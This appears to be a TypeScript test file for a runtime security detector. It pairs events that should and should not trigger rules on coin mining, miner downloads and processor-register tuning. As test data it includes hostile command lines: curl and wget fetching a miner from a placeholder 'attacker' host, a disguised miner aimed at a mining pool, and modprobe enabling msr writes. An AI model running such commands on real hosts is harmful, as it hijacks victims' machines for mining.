import { connect, exec, execRefused, open, openFlags, scriptShell } from "./event-builder.ts";
import { testTwins } from "./twins.ts";

testTwins({
  "Digital Currency Mining": [
    {
      name: "the program has a miner's name",
      fires: [exec({ argv: ["./xmrig"], exe: "/var/www/html/xmrig" })],
      quiet: [exec({ argv: ["./xmgrace"], exe: "/var/www/html/xmgrace" })],
    },
    {
      name: "a renamed miner takes a miner's arguments",
      fires: [
        exec({ argv: ["./kworker", "-o", "stratum+tcp://pool.example:443", "-u", "w"], exe: "/usr/bin/kworker" }),
      ],
      quiet: [exec({ argv: ["./kworker", "-o", "out.txt", "-u", "w"], exe: "/usr/bin/kworker" })],
    },
    {
      name: "a miner without arguments connects to a pool's port",
      fires: [connect({ argv: ["/usr/bin/app"] }, "198.51.100.7", 14444)],
      quiet: [connect({ argv: ["/usr/bin/app"] }, "198.51.100.7", 443)],
    },
    {
      name: "a port that pools share with others counts for a program that did not come with the image",
      fires: [connect({ argv: ["./a"], exe: "/tmp/a", upper: true }, "198.51.100.7", 3333)],
      quiet: [connect({ argv: ["/usr/bin/app"] }, "198.51.100.7", 3333)],
    },
    {
      name: "a miner is started that is not there",
      fires: [execRefused(scriptShell, "/usr/local/bin/xmrig")],
      quiet: [execRefused(scriptShell, "/usr/local/bin/xterm")],
    },
  ],
  "Coin Miner Download": [
    {
      name: "the address names a miner",
      fires: [exec({ argv: ["curl", "-sO", "http://attacker/xmrig"] })],
      quiet: [exec({ argv: ["curl", "-sO", "http://attacker/report"] })],
    },
    {
      name: "a renamed downloader is given the address",
      fires: [exec({ argv: ["./c", "-sO", "http://attacker/xmrig"], exe: "/opt/c" })],
      quiet: [exec({ argv: ["grep", "http://attacker/xmrig", "access.log"] })],
    },
    {
      name: "the address has no scheme",
      fires: [exec({ argv: ["wget", "attacker/xmrig"] })],
      quiet: [exec({ argv: ["rm", "attacker/xmrig"] })],
    },
  ],
  "Kubernetes CPU Optimization": [
    {
      name: "the module is the processor's registers, not a file system",
      fires: [exec({ argv: ["/sbin/modprobe", "msr", "allow_writes=on"], exe: "/usr/bin/kmod" })],
      quiet: [exec({ argv: ["/sbin/modprobe", "overlay"], exe: "/usr/bin/kmod" })],
    },
    {
      name: "a renamed modprobe is given the module's parameter",
      fires: [exec({ argv: ["./m", "msr", "allow_writes=on"], exe: "/opt/m" })],
      quiet: [exec({ argv: ["./m", "msr"], exe: "/opt/m" })],
    },
    {
      name: "a shell asks for modprobe where there is none, not iptables",
      fires: [execRefused(scriptShell, "/sbin/modprobe")],
      quiet: [execRefused({ argv: ["iptables", "-L"], exe: "/usr/sbin/xtables-nft-multi" }, "/sbin/modprobe")],
    },
    {
      name: "huge pages are asked for, not read",
      fires: [open({ argv: ["./a"], exe: "/opt/a" }, "/proc/sys/vm/nr_hugepages", openFlags.write, -30)],
      quiet: [open({ argv: ["./a"], exe: "/opt/a" }, "/proc/sys/vm/nr_hugepages")],
    },
    {
      name: "a register is written, not read",
      fires: [open({ argv: ["./a"], exe: "/opt/a" }, "/dev/cpu/0/msr", openFlags.write)],
      quiet: [open({ argv: ["./a"], exe: "/opt/a" }, "/dev/cpu/0/msr")],
    },
  ],
});
